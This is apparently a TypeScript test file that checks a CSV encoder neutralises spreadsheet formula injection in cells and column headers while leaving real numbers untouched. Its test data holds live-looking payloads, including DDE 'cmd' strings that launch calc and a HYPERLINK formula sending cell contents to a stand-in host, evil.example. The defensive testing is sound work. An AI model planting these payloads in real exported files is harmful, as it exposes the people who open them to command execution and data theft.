/**
 * Attack: CSV (formula) injection through a released output. A column alias or a cell value
 * that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula when
 * the downloaded CSV is opened in a spreadsheet (`=HYPERLINK(...)` exfiltration, DDE `+cmd`).
 * Each such header or cell must come out as `"'<value>"`; genuine numbers stay numbers.
 */
import { toCsv, type OutputTable } from '../../../sandbox/encoders/output-formats';

const STAMP = { fingerprint: 'f'.repeat(32), runId: 'run_1', outputSha256: 'a'.repeat(64) };
const FINGERPRINT_LINE = `# shuyu-fingerprint: ${STAMP.fingerprint} run: ${STAMP.runId} output-sha256: ${STAMP.outputSha256}`;

/** RFC 4180 records, the fingerprint line first (quoted fields may hold CR, LF and ""). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      record.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  return records;
}

const csv = (output: OutputTable) => toCsv(output, STAMP);
const oneCell = (value: unknown) => csv({ columns: [{ name: 'v', type: 'VARCHAR' }], rows: [[value]] }).split('\r\n')[2];

describe('CSV formula injection', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['+cmd|\' /C calc\'!A0', `"'+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['\t=1', `"'\t=1"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
    ['-', `"'-"`],
    ['-1.5e', `"'-1.5e"`],
  ])('a cell %j is neutralised as %s', (value, expected) => {
    expect(oneCell(value)).toBe(expected);
  });

  it('a cell starting with a carriage return is neutralised and stays one field', () => {
    const text = csv({ columns: [{ name: 'v', type: 'VARCHAR' }], rows: [['\r=1'], ['next']] });
    expect(text.endsWith(`\r\nv\r\n"'\r=1"\r\nnext\r\n`)).toBe(true);
    expect(parseCsv(text).slice(1)).toEqual([['v'], ["'\r=1"], ['next']]);
  });

  it('headers (column aliases) are neutralised like cells', () => {
    const columns = ['=1+1', '@SUM(A1)', '+cmd', '-2+3', '\t=1', '\r=1', 'plain'].map((name) => ({ name, type: 'BIGINT' }));
    const text = csv({ columns, rows: [[1, 2, 3, 4, 5, 6, 7]] });
    expect(text.startsWith(`${FINGERPRINT_LINE}\r\n"'=1+1","'@SUM(A1)","'+cmd","'-2+3","'\t=1","'\r=1",plain\r\n`)).toBe(true);
    expect(parseCsv(text)[1]).toEqual(["'=1+1", "'@SUM(A1)", "'+cmd", "'-2+3", "'\t=1", "'\r=1", 'plain']);
  });

  it('numbers, negative ones included, stay unquoted numbers', () => {
    const columns = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name) => ({ name, type: 'DOUBLE' }));
    const text = csv({ columns, rows: [[-5, -1.25, 0, 42, -1e-7, '-5', '-0.5']] });
    expect(text.split('\r\n')[2]).toBe('-5,-1.25,0,42,-1e-7,-5,-0.5');
  });

  it('everything else is unchanged: fingerprint line, CRLF, quoting, nulls and inner formula characters', () => {
    const output: OutputTable = {
      columns: [{ name: 'street', type: 'VARCHAR' }, { name: 'n', type: 'BIGINT' }, { name: 'note', type: 'VARCHAR' }],
      rows: [
        ['光明街道', 12, 'a=b+c@d-e'],
        ['x,y', null, 'say "hi"'],
        ['#not a comment', true, 'line\nbreak'],
      ],
    };
    expect(csv(output)).toBe(
      `${FINGERPRINT_LINE}\r\nstreet,n,note\r\n光明街道,12,a=b+c@d-e\r\n"x,y",,"say ""hi"""\r\n"#not a comment",true,"line\nbreak"\r\n`,
    );
  });

  it('no parsed field of a hostile output starts with a formula character unless it is a number', () => {
    const payloads = ['=1+1', '@SUM(A1)', '+cmd', '-2+3', '\t=1', '\r=1', '=cmd|"/c calc"!A1', -5, -1.25, '-3'];
    const output: OutputTable = { columns: payloads.map((p) => ({ name: String(p), type: 'VARCHAR' })), rows: [payloads, [...payloads].reverse()] };
    const fields = parseCsv(csv(output)).slice(1).flat();
    expect(fields).toHaveLength(payloads.length * 3);
    for (const f of fields) expect(/^[=+\-@\t\r]/.test(f) && !/^-\d+(\.\d+)?$/.test(f)).toBe(false);
  });
});
